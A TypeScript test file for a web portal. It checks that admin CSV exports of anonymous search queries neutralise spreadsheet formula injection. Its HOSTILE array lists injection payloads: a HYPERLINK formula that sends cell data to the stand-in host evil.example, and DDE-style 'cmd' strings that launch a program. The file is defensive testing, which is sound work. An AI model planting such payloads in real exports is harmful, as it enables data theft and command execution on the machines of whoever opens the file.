import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startUserSession } from "../../../app/modules/identity/sessions.server";
import { refreshInsightsUntilDone } from "../../../app/modules/insights/refresh.server";
import { db } from "../../../app/utils/db.server";
import { toCsvText } from "../../../app/utils/csv";
import { ensureStaff } from "../../factories/identity";
import { startTestServer } from "../../setup/http-server";

/** Issue 12 item 5: what anonymous visitors type must not become a formula in an admin's spreadsheet. */
const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd"];

let server: Awaited<ReturnType<typeof startTestServer>>;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

const today = new Date().toLocaleDateString("sv-SE", { timeZone: "Europe/Brussels" });

describe("spreadsheet-safe exports", () => {
  it("neutralises an anonymous search text in the admins' zero-result export", async () => {
    for (const q of HOSTILE) {
      const res = await server.get(`/api/v1/knowledge/search?${new URLSearchParams({ q: `${q} zzqxv` })}`);
      expect(res.status).toBe(200);
    }
    // The search log is written in small batches: wait until the portal has written it.
    for (let i = 0; i < 200; i++) {
      const [{ n }] = (await db.execute(sql`select count(*)::int as n from knowledge_search_log where query like '%zzqxv'`)) as unknown as { n: number }[];
      if (n >= HOSTILE.length) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    await refreshInsightsUntilDone();
    const admin = await ensureStaff(db, { email: "beheer.csv@example.com", roles: ["admin"] });
    const cookie = (await startUserSession(new Request("http://portal.test/"), admin.id, true)).split(";")[0];
    const res = await server.get(`/werk/inzichten/csv/zoeken-zonder-resultaat?van=${today}&tot=${today}`, { Cookie: cookie });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("text/csv");
    const text = await res.text();
    const lines = text.split("\r\n").filter((l) => l.includes("zzqxv"));
    expect(lines).toHaveLength(HOSTILE.length);
    for (const line of lines) {
      // Every cell that starts a formula is quoted and starts with a single quote.
      expect(line).toMatch(/^"'[=+\-@]/);
      for (const cell of line.split(",")) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(text.toLowerCase()).toContain(`"'=hyperlink(""https://evil.example/?d=""&a1`);
  });

  it("keeps real numbers as numbers and quotes only text", () => {
    const csv = toCsvText(
      ["a", "b", "c", "d"],
      [
        { a: -3, b: "-3", c: "\tx", d: "ok" },
        { a: "\r=1", b: "@x", c: "+1", d: null },
      ],
    );
    expect(csv).toBe(`a,b,c,d\r\n-3,"'-3","'\tx",ok\r\n"'\r=1","'@x","'+1",\r\n`);
  });
});
